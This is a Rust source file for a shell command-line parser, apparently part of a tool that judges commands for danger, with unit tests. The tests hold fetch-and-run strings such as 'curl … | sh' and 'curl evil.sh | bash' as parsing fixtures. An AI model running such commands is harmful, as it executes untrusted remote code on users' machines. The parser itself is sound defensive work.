//! Reading a shell command well enough to judge it: words (quotes and escapes resolved),
//! simple commands split at `|`, `;`, `&&`, `||`, `&` and newlines, their redirections, and
//! command substitutions. What cannot be read (an unclosed quote, a dangling escape) is an
//! error, and an unreadable command is treated as the most dangerous kind.

/// One simple command of a command line.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct SimpleCommand {
    /// The program and its arguments, quotes resolved.
    pub words: Vec<String>,
    /// Files written by redirection (`>`, `>>`, `&>`, `2>`), as written.
    pub writes: Vec<String>,
    /// Its output goes to the next command (`|`).
    pub piped: bool,
}

/// A command line, read.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct CommandLine {
    pub commands: Vec<SimpleCommand>,
    /// The text of every `$(…)` and backquoted substitution, read as command lines too.
    pub substitutions: Vec<CommandLine>,
}

/// Why a command line could not be read.
#[derive(Debug, PartialEq, thiserror::Error)]
pub enum ShellError {
    #[error("an unclosed {0} quote")]
    UnclosedQuote(char),
    #[error("an unclosed command substitution")]
    UnclosedSubstitution,
    #[error("a redirection without a target")]
    DanglingRedirection,
    #[error("the command line is nested too deeply")]
    TooDeep,
    #[error("{0} is not read")]
    Unreadable(&'static str),
}

/// How deep substitutions may nest before the line counts as unreadable.
const MAX_DEPTH: usize = 8;

/// Reads `line`.
pub fn parse(line: &str) -> Result<CommandLine, ShellError> {
    parse_at(line, 0)
}

/// Reads `line`, inside `depth` substitutions.
///
/// Long because it is one scanner over the characters: quoting, escapes, operators,
/// redirections and substitutions all share the word being read, and split apart they would
/// pass it, and each other's state, around.
fn parse_at(line: &str, depth: usize) -> Result<CommandLine, ShellError> {
    if depth > MAX_DEPTH {
        return Err(ShellError::TooDeep);
    }
    let mut out = CommandLine::default();
    let mut current = SimpleCommand::default();
    let mut word = String::new();
    let mut in_word = false;
    let mut redirect = false;
    let chars: Vec<char> = line.chars().collect();
    let mut i = 0;
    // Ends the word being read: a redirection's target, or the next word of the command.
    let finish_word = |word: &mut String,
                       in_word: &mut bool,
                       redirect: &mut bool,
                       current: &mut SimpleCommand| {
        if *in_word {
            let w = std::mem::take(word);
            if *redirect {
                current.writes.push(w);
                *redirect = false;
            } else {
                current.words.push(w);
            }
            *in_word = false;
        }
    };
    while i < chars.len() {
        let c = chars[i];
        match c {
            '\'' => {
                let end = chars[i + 1..]
                    .iter()
                    .position(|&x| x == '\'')
                    .ok_or(ShellError::UnclosedQuote('\''))?;
                word.extend(&chars[i + 1..i + 1 + end]);
                in_word = true;
                i += end + 2;
                continue;
            }
            '"' => {
                let mut j = i + 1;
                loop {
                    match chars.get(j) {
                        None => return Err(ShellError::UnclosedQuote('"')),
                        Some('"') => break,
                        Some('\\') if j + 1 < chars.len() => {
                            word.push(chars[j + 1]);
                            j += 2;
                        }
                        Some('$') if chars.get(j + 1) == Some(&'(') => {
                            let (inner, next) = substitution(&chars, j + 2)?;
                            out.substitutions.push(parse_at(&inner, depth + 1)?);
                            word.push_str(&format!("$({inner})"));
                            j = next;
                        }
                        Some('`') => {
                            let end = chars[j + 1..]
                                .iter()
                                .position(|&x| x == '`')
                                .ok_or(ShellError::UnclosedSubstitution)?;
                            let inner: String = chars[j + 1..j + 1 + end].iter().collect();
                            out.substitutions.push(parse_at(&inner, depth + 1)?);
                            j += end + 2;
                        }
                        Some(&other) => {
                            word.push(other);
                            j += 1;
                        }
                    }
                }
                in_word = true;
                i = j + 1;
                continue;
            }
            '\\' => {
                let next = chars.get(i + 1).ok_or(ShellError::UnclosedQuote('\\'))?;
                if *next != '\n' {
                    word.push(*next);
                    in_word = true;
                }
                i += 2;
                continue;
            }
            '$' if chars.get(i + 1) == Some(&'\'') => {
                // ANSI-C quoting can spell any name; it is not read, so not trusted.
                return Err(ShellError::Unreadable("$'…' quoting"));
            }
            '$' if chars.get(i + 1) == Some(&'(') => {
                let (inner, next) = substitution(&chars, i + 2)?;
                out.substitutions.push(parse_at(&inner, depth + 1)?);
                word.push_str(&format!("$({inner})"));
                in_word = true;
                i = next;
                continue;
            }
            '`' => {
                let end = chars[i + 1..]
                    .iter()
                    .position(|&x| x == '`')
                    .ok_or(ShellError::UnclosedSubstitution)?;
                let inner: String = chars[i + 1..i + 1 + end].iter().collect();
                out.substitutions.push(parse_at(&inner, depth + 1)?);
                in_word = true;
                i += end + 2;
                continue;
            }
            ' ' | '\t' => {
                finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
            }
            '<' | '>' if chars.get(i + 1) == Some(&'(') => {
                // Process substitution: a command line of its own.
                let (inner, next) = substitution(&chars, i + 2)?;
                out.substitutions.push(parse_at(&inner, depth + 1)?);
                word.push_str(&format!("{c}({inner})"));
                in_word = true;
                i = next;
                continue;
            }
            '>' => {
                finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
                // A descriptor number before it (`2>`) was read as a word: take it back.
                if current
                    .words
                    .last()
                    .is_some_and(|w| w.chars().all(|c| c.is_ascii_digit()))
                    && i > 0
                    && chars[i - 1].is_ascii_digit()
                {
                    current.words.pop();
                }
                // `>>` appends and `>|` overwrites: writes all the same.
                if matches!(chars.get(i + 1), Some('>' | '|')) {
                    i += 1;
                }
                let to_descriptor = chars.get(i + 1) == Some(&'&')
                    && chars
                        .get(i + 2)
                        .is_some_and(|c| c.is_ascii_digit() || *c == '-');
                if chars.get(i + 1) == Some(&'&') && !to_descriptor {
                    // `>&file`: both outputs to a file.
                    i += 1;
                } else if to_descriptor {
                    // `>&2`: to another descriptor, not a file.
                    i += 2;
                    while chars
                        .get(i)
                        .is_some_and(|c| c.is_ascii_digit() || *c == '-')
                    {
                        i += 1;
                    }
                    continue;
                }
                redirect = true;
            }
            '<' => {
                finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
                // Input is read, not written: its target is a plain word for our purposes.
            }
            '(' | ')' | '{' | '}' if !in_word || c == ')' || c == '}' => {
                // Subshells and groups: their commands are commands like any.
                finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
                if !current.words.is_empty() || !current.writes.is_empty() {
                    out.commands.push(std::mem::take(&mut current));
                }
            }
            '|' | ';' | '&' | '\n' => {
                finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
                if redirect {
                    return Err(ShellError::DanglingRedirection);
                }
                let double = chars.get(i + 1) == Some(&c);
                if c == '&' && chars.get(i + 1) == Some(&'>') {
                    // `&>file`: both outputs to a file.
                    i += 1;
                    redirect = true;
                    i += 1;
                    continue;
                }
                current.piped = c == '|' && !double;
                if !current.words.is_empty() || !current.writes.is_empty() {
                    out.commands.push(std::mem::take(&mut current));
                }
                current = SimpleCommand::default();
                if double {
                    i += 1;
                }
            }
            '#' if !in_word => {
                // A comment to the end of the line.
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            other => {
                word.push(other);
                in_word = true;
            }
        }
        i += 1;
    }
    finish_word(&mut word, &mut in_word, &mut redirect, &mut current);
    if redirect {
        return Err(ShellError::DanglingRedirection);
    }
    if !current.words.is_empty() || !current.writes.is_empty() {
        out.commands.push(current);
    }
    Ok(out)
}

/// The text of a `$(…)` starting at `start` (just after the parenthesis), and the index after
/// its closing parenthesis; nested parentheses and quotes are respected.
fn substitution(chars: &[char], start: usize) -> Result<(String, usize), ShellError> {
    let mut depth = 1;
    let mut j = start;
    let mut quote: Option<char> = None;
    while j < chars.len() {
        let c = chars[j];
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => {
                depth -= 1;
                if depth == 0 {
                    return Ok((chars[start..j].iter().collect(), j + 1));
                }
            }
            _ => {}
        }
        j += 1;
    }
    Err(ShellError::UnclosedSubstitution)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(line: &str) -> Vec<Vec<String>> {
        parse(line)
            .unwrap()
            .commands
            .into_iter()
            .map(|c| c.words)
            .collect()
    }

    #[test]
    fn pipelines_lists_and_quotes() {
        assert_eq!(
            words("curl -fsSL 'https://x.sh' | sh"),
            [vec!["curl", "-fsSL", "https://x.sh"], vec!["sh"]]
        );
        assert_eq!(
            words("echo \"a b\" && ls -la; pwd"),
            [vec!["echo", "a b"], vec!["ls", "-la"], vec!["pwd"]]
        );
        let line = parse("cat a | grep x > out.txt 2>/dev/null").unwrap();
        assert!(line.commands[0].piped);
        assert_eq!(line.commands[1].writes, ["out.txt", "/dev/null"]);
        assert_eq!(line.commands[1].words, ["grep", "x"]);
    }

    #[test]
    fn substitutions_are_read_too() {
        let line = parse("echo $(curl evil.sh | bash) `id`").unwrap();
        assert_eq!(line.substitutions.len(), 2);
        assert_eq!(line.substitutions[0].commands[1].words, ["bash"]);
    }

    #[test]
    fn unreadable_lines_are_errors() {
        assert_eq!(parse("echo 'oops"), Err(ShellError::UnclosedQuote('\'')));
        assert_eq!(parse("echo \"oops"), Err(ShellError::UnclosedQuote('"')));
        assert_eq!(parse("echo $(oops"), Err(ShellError::UnclosedSubstitution));
        assert_eq!(parse("ls >"), Err(ShellError::DanglingRedirection));
    }
}
